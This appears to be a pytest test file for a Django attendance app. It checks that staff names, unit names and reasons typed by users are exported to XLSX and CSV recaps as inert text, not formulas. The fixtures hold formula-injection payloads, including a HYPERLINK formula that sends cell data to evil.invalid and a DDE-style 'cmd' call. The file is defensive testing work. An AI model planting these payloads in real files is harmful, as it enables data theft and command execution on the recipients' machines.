"""Formula injection (issue 11, item 1): text a user typed (a staff name, a position, a unit name, a
reason) is written into every XLSX and CSV Hadir makes as inert text, never a live formula.

XLSX: no cell is a formula and the text reads back as typed. CSV: a field starting with = + - @, tab or
carriage return gets a leading apostrophe (OWASP); numbers Hadir writes as numbers stay as they are.
"""

import csv
import datetime as dt
import io
import os
import zipfile

import pytest
from django.db import transaction
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from attendance.models import CheckIn, Correction
from policy import audit
from policy.models import Arrangement, AuditEvent
from tests.attendance.recap.test_recap_city_export import prepare
from tests.attendance.recap.test_recap_totals import freeze, jakarta
from tests.conftest import login
from units.models import Employee, StaffImport, Unit
from units.spreadsheet import FORMULA_TRIGGERS

PAYLOAD = '=HYPERLINK("http://evil.invalid/?x="&A1,"Klik")'
TODAY = dt.date(2026, 5, 4)
DAY = dt.date(2026, 4, 6)  # a Monday of the exported month
UNIT_XLSX = "/rekap/unit/17.99.01.1001/rekap.xlsx?bulan=2026-04"
UNIT_CSV = "/rekap/unit/17.99.01.1001/rekap.csv?bulan=2026-04"
CITY_XLSX = "/rekap/kota/rekap.xlsx?bulan=2026-04"
CITY_CSV = "/rekap/kota/rekap.csv?bulan=2026-04"


@pytest.fixture
def planted(world, monkeypatch):
    """Siti of Kelurahan Alpha Satu, her unit, position and reasons all typed as formulas."""
    freeze(monkeypatch, TODAY)
    plant(world, name=PAYLOAD, unit_name="+" + PAYLOAD[1:], position="-" + PAYLOAD[1:])
    siti = world.staff_alpha1
    CheckIn.objects.create(
        employee=siti, date=DAY, kind="in", at=jakarta(DAY, 7, 20), created_by=siti.user,
        latitude="-3.800100", longitude="102.260000", accuracy_m=9, distance_m=11, location="inside",
        reason="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    arrangement = Arrangement.objects.create(
        employee=siti, kind="sakit", start_date=DAY, end_date=DAY, working_days=1,
        status=Arrangement.Status.APPROVED, reason="\t=1+1", address="=A1", spt_number="-2+3",
    )
    Correction.objects.create(employee=siti, date=DAY, kind="lupa_pulang", time_out=dt.time(16, 5), reason="\r=1+1")
    audit.record(world.lurah_alpha1.user, AuditEvent.Action.APPROVED, employee=siti, arrangement=arrangement,
                 note=PAYLOAD)
    return siti


def plant(world, *, name: str, unit_name: str, position: str) -> None:
    Employee.objects.filter(pk=world.staff_alpha1.pk).update(full_name=name, position_title=position)
    Unit.objects.filter(pk=world.kel_alpha1.pk).update(name=unit_name)


def workbook(response):
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def formulas(book) -> list[str]:
    return [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def is_number(field: str) -> bool:
    try:
        float(field.replace(",", "."))
    except ValueError:
        return False
    return True


def live(rows: list[list[str]]) -> list[str]:
    """The fields a spreadsheet would read as the start of a formula (a number Hadir wrote is not)."""
    return [f for row in rows for f in row if f.startswith(FORMULA_TRIGGERS) and not is_number(f)]


def rows_by_nip(ws) -> dict:
    header = next(r[0].row for r in ws.iter_rows() if r[0].value == "Nama")
    names = [c.value for c in ws[header]]
    return {row[1]: dict(zip(names, row, strict=True)) for row in ws.iter_rows(min_row=header + 1, values_only=True)}


def import_errors(client, admin, *, name: str, position: str, unit: str, start: str = "") -> bytes:
    """The error file of an import whose one row (refused for its NIP) carried these values as uploaded.
    The import is stored as the reading leaves it, so the test does not depend on how a file is read."""
    data = {"nip": "123", "full_name": name, "asn_type": "PNS", "position_title": position,
            "position_category": "pelaksana", "unit": unit, "service_role": None, "start_date": start or None}
    job = StaffImport.objects.create(
        filename="pegawai.csv", created_by=admin,
        rows=[{"line": 2, "data": data, "errors": ["NIP harus 18 digit."], "action": "error"}],
    )
    return client.get(f"/pegawai/impor/{job.code}/galat.csv").content


def my_data(client) -> dict[str, list[list[str]]]:
    response = client.get("/saya/data/")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    return {name: csv_rows(archive.read(name)) for name in archive.namelist() if name.endswith(".csv")}


def test_it_writes_a_formula_typed_as_a_name_as_text_in_the_unit_recap_xlsx(client, world, planted):
    login(client, world.lurah_alpha1)
    book = workbook(client.get(UNIT_XLSX))
    assert formulas(book) == []
    siti = rows_by_nip(book.active)[planted.nip]
    assert siti["Nama"] == PAYLOAD and siti["Unit"] == "+" + PAYLOAD[1:]
    assert isinstance(siti["Hari kerja"], int)  # numbers stay numbers


def test_it_neutralises_a_formula_typed_as_a_name_in_the_unit_recap_csv(client, world, planted):
    login(client, world.operator_alpha1)
    rows = csv_rows(client.get(UNIT_CSV).content)
    siti = next(row for row in rows if row[0].endswith(PAYLOAD))
    assert siti[0] == "'" + PAYLOAD and siti[2] == "'+" + PAYLOAD[1:]
    assert live(rows) == []


def test_it_writes_formulas_typed_as_names_as_text_in_the_city_recap_xlsx(client, world, planted):
    login(client, world.admin_user)
    prepare(client)
    book = workbook(client.get(CITY_XLSX))
    assert formulas(book) == []
    assert rows_by_nip(book["Per pegawai"])[planted.nip]["Nama"] == PAYLOAD
    units = [row[0] for row in book["Per unit"].iter_rows(values_only=True)]
    assert "+" + PAYLOAD[1:] in units


def test_it_neutralises_formulas_typed_as_names_in_the_city_recap_csv(client, world, planted):
    login(client, world.admin_user)
    prepare(client)
    rows = csv_rows(client.get(CITY_CSV).content)
    assert ["'" + PAYLOAD, "'+" + PAYLOAD[1:]] in [row[:3:2] for row in rows]
    assert live(rows) == []


def test_it_neutralises_formulas_in_the_import_error_file(client, world):
    login(client, world.admin_user)
    content = import_errors(client, world.admin_user, name=PAYLOAD, position="-" + PAYLOAD[1:], unit="+17.99",
                            start="@2026")
    rows = csv_rows(content)
    assert rows[1] == ["2", "123", "'" + PAYLOAD, "PNS", "'-" + PAYLOAD[1:], "pelaksana", "'+17.99", "", "'@2026",
                       "NIP harus 18 digit."]
    assert live(rows) == []


def test_it_neutralises_formulas_in_the_personal_data_zip(client, world, planted):
    login(client, planted)
    files = my_data(client)
    assert set(files) == {"profil.csv", "presensi.csv", "pengajuan.csv", "koreksi.csv", "riwayat.csv",
                          "status_harian.csv"}
    for name, rows in files.items():
        assert live(rows) == [], name
    profile = dict(files["profil.csv"][1:])
    assert profile["Nama lengkap"] == "'" + PAYLOAD and profile["Jabatan"] == "'-" + PAYLOAD[1:]
    assert profile["Unit kerja"] == "'+" + PAYLOAD[1:] + " (17.99.01.1001)"
    assert profile["Lintang domisili"] == "-3.800000"  # a number Hadir wrote stays a number
    checkin = dict(zip(files["presensi.csv"][0], files["presensi.csv"][1], strict=True))
    assert checkin["Lintang"] == "-3.800100" and checkin["Alasan"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    request = files["pengajuan.csv"][1]
    assert (request[6], request[7], request[8]) == ("'=A1", "'-2+3", "'\t=1+1")
    assert files["koreksi.csv"][1][6] == "'\r=1+1"
    assert files["riwayat.csv"][1][3] == "'" + PAYLOAD


# --- Any text, generated ----------------------------------------------------------------------------------

FUZZ = settings(
    max_examples=int(os.environ.get("FUZZ_EXAMPLES", 12)),
    deadline=None,
    derandomize="FUZZ_EXAMPLES" not in os.environ,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
# Text as a user could type it (NUL aside: forms refuse it, PostgreSQL cannot store it), often starting
# with a formula trigger, an apostrophe or a space, with XLSX's forbidden control characters now and then.
CHARACTERS = st.characters(codec="utf-8", exclude_characters="\x00")
TEXT = st.tuples(
    st.sampled_from([*FORMULA_TRIGGERS, "'", " ", "", "=-", "@@"]), st.text(CHARACTERS, max_size=40)
).map("".join)
XLSX_FORBIDDEN = {chr(c) for c in [*range(0x01, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20)]}


def as_stored(text: str) -> str:
    """What an XLSX file holds of `text`: everything but the control characters it cannot contain."""
    return "".join(c for c in text if c not in XLSX_FORBIDDEN)


def test_it_never_writes_a_formula_whatever_text_is_exported(client, world, monkeypatch):
    freeze(monkeypatch, TODAY)
    siti = world.staff_alpha1
    login(client, world.admin_user)
    prepare(client)
    staff = Client()
    login(staff, siti)

    @FUZZ
    @given(name=TEXT, unit_name=TEXT, position=TEXT, reason=TEXT)
    def check(name, unit_name, position, reason):
        with transaction.atomic():
            plant(world, name=name, unit_name=unit_name, position=position)
            CheckIn.objects.create(employee=siti, date=DAY, kind="in", at=jakarta(DAY, 7, 20),
                                   created_by=siti.user, reason=reason)
            for url in (UNIT_XLSX, CITY_XLSX):
                book = workbook(client.get(url))
                assert formulas(book) == [], url
                row = rows_by_nip(book.worksheets[0])[siti.nip]
                assert (row["Nama"] or "", row["Unit"] or "") == (as_stored(name), as_stored(unit_name)), url
            for url in (UNIT_CSV, CITY_CSV):
                assert live(csv_rows(client.get(url).content)) == [], url
            errors = import_errors(client, world.admin_user, name=name, position=position, unit=unit_name, start=reason)
            assert live(csv_rows(errors)) == []
            for name_in_zip, rows in my_data(staff).items():
                assert live(rows) == [], name_in_zip
            transaction.set_rollback(True)

    check()
